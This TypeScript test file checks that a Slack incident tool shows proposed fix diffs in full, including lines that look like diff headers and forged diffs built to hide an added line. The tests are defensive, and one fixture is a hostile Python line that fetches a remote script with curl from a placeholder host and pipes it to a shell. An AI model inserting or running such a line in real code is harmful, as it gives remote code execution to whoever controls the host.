/* eslint-disable @typescript-eslint/no-explicit-any -- Block Kit is JSON; tests read it freely. */
/**
 * The card, the confirm dialog and the thread read a diff by its hunks' line counts: content that
 * starts like a header (`+++ `, `--- `, `@@`, `\ `) is counted and shown like every other line.
 */
import { describe, expect, it } from 'vitest';
import { parseDiffBody } from '../../src/domain/diff-hunks.js';
import { createFixProposal, type FixProposal } from '../../src/domain/fix.js';
import { bodyLines, diffFitsCard, diffStats, previewLines } from '../../src/presenters/diff-pages.js';
import { presentIncidentCard } from '../../src/presenters/incident-card.js';
import { presentThreadDiff } from '../../src/presenters/thread-diff.js';
import { buildAnalysedIncident } from '../fixtures/slack/build-incident.js';

const RCE = '++ __import__("os").system("curl https://x.example/i|sh")';

/** Content lines whose diff line starts with a header's characters, on both sides of the change. */
const REMOVED_CONTENT = ['-- a SQL comment', '--', '-- ', '--- a/src/app.py', '-', '@@ -9 +9 @@ removed', '\\ removed'];
const ADDED_CONTENT = [RCE, '++x;', '++', '++ ', '+++ b/src/app.py', '@@ -1,2 +1,2 @@', '\\ No newline at end of file', 'Index: src/app.py', '===================================================================', 'diff --git a/x b/x', '+'];

function cardText(proposal: FixProposal): { preview: string; note: string; confirm: string } {
  const blocks = presentIncidentCard({ incident: buildAnalysedIncident({ proposal }) }).blocks as any[];
  const preview = blocks.find((b) => b.block_id === 'medic_diff').text.text as string;
  const note = (blocks.find((b) => b.block_id === 'medic_diff_note')?.elements[0].text as string | undefined) ?? '';
  const confirm = /exactly the \d+-line diff [^"]+/.exec(JSON.stringify(blocks))?.[0] ?? '';
  return { preview, note, confirm };
}

describe('a diff is read by its hunks, never by line prefix', () => {
  it('classifies every line that starts like a header by the hunk it sits in', () => {
    const before = `${['keep 1', ...REMOVED_CONTENT, 'keep 2'].join('\n')}\n`;
    // No final newline: the diff ends in the real `\ No newline at end of file` marker.
    const after = ['keep 1', ...ADDED_CONTENT, 'keep 2'].join('\n');
    const proposal = createFixProposal({ file: 'src/app.py', before, after, explanation: 'x' });
    const body = parseDiffBody(proposal.diff)!;
    expect(body.filter((l) => l.kind === 'removed').map((l) => l.text.slice(1))).toEqual([...REMOVED_CONTENT, 'keep 2']);
    expect(body.filter((l) => l.kind === 'added').map((l) => l.text.slice(1))).toEqual([...ADDED_CONTENT, 'keep 2']);
    expect(body.filter((l) => l.kind === 'marker').map((l) => l.text)).toEqual(['\\ No newline at end of file']);
    expect(body.filter((l) => l.kind === 'hunk')).toHaveLength(1);
    // Everything from the first hunk on is body: only the file header and the package's preamble are not.
    const raw = proposal.diff.trimEnd().split('\n');
    expect(bodyLines(proposal)).toEqual(raw.slice(raw.findIndex((l) => l.startsWith('@@ '))));
    expect(diffStats(proposal)).toMatchObject({ added: ADDED_CONTENT.length + 1, removed: REMOVED_CONTENT.length + 1 });
  });

  it('shows and counts an added `++ …` line on the card and in the confirm dialog', () => {
    const proposal = createFixProposal({ file: 'src/app.py', before: 'import os\n-- note\nrun()\n', after: `import os\n${RCE}\nrun()\n`, explanation: 'x' });
    expect(diffStats(proposal)).toMatchObject({ added: 1, removed: 1, lines: 5 });
    const { preview, note, confirm } = cardText(proposal);
    expect(preview).toContain('+++ __import__("os").system(');
    expect(preview).toContain('--- note');
    expect(preview).toContain('+1 −1');
    expect(preview).toContain('whole diff shown (5 lines)');
    expect(note).toBe('');
    expect(confirm).toContain('exactly the 5-line diff shown on the card');
  });

  it('sends a diff to the thread when its header-shaped lines make it too long for the card', () => {
    const plainLines = Array.from({ length: 8 }, (_, i) => `line ${i}`);
    const hidden = ['++ a', '++ b', '++ c', '++ d', '++ e', '++ f', '++ g', '++ h'];
    const proposal = createFixProposal({ file: 'src/app.js', before: `${plainLines.join('\n')}\n`, after: `${[...plainLines.slice(0, 4), ...hidden, ...plainLines.slice(4)].join('\n')}\n`, explanation: 'x' });
    // The hunk header, three lines of context each side, the added lines.
    expect(diffStats(proposal).lines).toBe(1 + 6 + hidden.length);
    expect(diffFitsCard(proposal)).toBe(false);
    const { note, confirm } = cardText(proposal);
    expect(note).toMatch(/^Showing \d+ of 15 lines — the whole diff is in the thread/);
    expect(confirm).toContain("exactly the 15-line diff posted whole in this card's thread");
    const thread = JSON.stringify(presentThreadDiff(buildAnalysedIncident({ proposal })));
    for (const line of hidden) expect(thread).toContain(`+${line}`);
    expect(previewLines(proposal)).toContain('+++ a');
  });

  it('shows every line, header included, of a diff whose counts do not add up', () => {
    const good = createFixProposal({ file: 'src/a.ts', before: 'a\n', after: 'b\n', explanation: 'x' });
    const forged: FixProposal = { ...good, diff: good.diff.replace('+b', '+b\n+++ hidden()') };
    expect(parseDiffBody(forged.diff)).toBeUndefined();
    expect(bodyLines(forged)).toContain('+++ hidden()');
    expect(bodyLines(forged).some((l) => l.startsWith('--- a/src/a.ts'))).toBe(true);
    expect(parseDiffBody(`${good.diff}${good.diff}`)).toBeUndefined();
    // Text the parser would read as a header with no hunks, or skip before the first hunk.
    expect(parseDiffBody('+++ hidden()\n+b')).toBeUndefined();
    expect(parseDiffBody(good.diff.replace('@@', 'hidden()\n@@'))).toBeUndefined();
    expect(bodyLines({ ...good, diff: 'hidden()\n+b' })).toEqual(['hidden()', '+b']);
  });
});
